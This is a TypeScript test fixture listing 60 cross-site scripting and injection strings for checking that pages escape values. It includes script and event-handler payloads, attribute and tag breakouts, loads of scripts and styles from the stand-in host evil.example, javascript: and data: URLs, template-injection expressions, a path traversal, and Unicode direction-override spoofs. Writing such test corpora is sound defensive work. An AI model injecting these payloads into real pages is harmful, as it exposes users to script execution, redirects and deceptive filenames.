/** Texts that run as HTML, as a script or as a style where a page does not escape a value. */
const MARKUP = [
  '<script>pwned()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<math><mtext></table><mglyph><style><img src=x onerror=pwned()>',
  '<details open ontoggle=pwned()>',
  '<body onload=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<select autofocus onfocus=pwned()>',
  '<textarea autofocus onfocus=pwned()>',
  '<video><source onerror=pwned()>',
  '<audio src=x onerror=pwned()>',
  '<marquee onstart=pwned()>',
  '<a href="javascript:pwned()">link</a>',
  '<form action="javascript:pwned()"><button>go</button></form>',
  '<button formaction="javascript:pwned()">go</button>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<template><script>pwned()</script></template>',
  '<noscript><img src=x onerror=pwned()></noscript>',
  '<dialog open>pwned</dialog>',
];

/** Texts that leave an attribute, an element or a comment. */
const BREAKOUTS = [
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '" onmouseover="pwned()" x="',
  "' onfocus='pwned()' autofocus='",
  '" autofocus onfocus=pwned() x="',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</script><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '--><script>pwned()</script>',
  ']]><script>pwned()</script>',
  '</code></pre><img src=x onerror=pwned()>',
  '</td></tr></table><img src=x onerror=pwned()>',
  '</a><a href=javascript:pwned()>x</a>',
  '</option></select><img src=x onerror=pwned()>',
];

/** Texts that are dangerous in an address, in a template or in a script, and texts that mislead a reader. */
const OTHERS = [
  'javascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  '//evil.example/%2e%2e',
  '../../../../console/sign-out',
  '{{constructor.constructor("pwned()")()}}',
  '${pwned()}',
  '#{pwned()}',
  '`;pwned();//',
  '\\x3cscript\\x3epwned()\\x3c/script\\x3e',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '%3Cscript%3Epwned()%3C%2Fscript%3E',
  'invoice\u202Efdp.exe',
  '\u2066<b>\u2069',
  'A\u200Fdmin',
];

/** The corpus of 60 texts with which records are filled in tests of pages. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...BREAKOUTS, ...OTHERS];
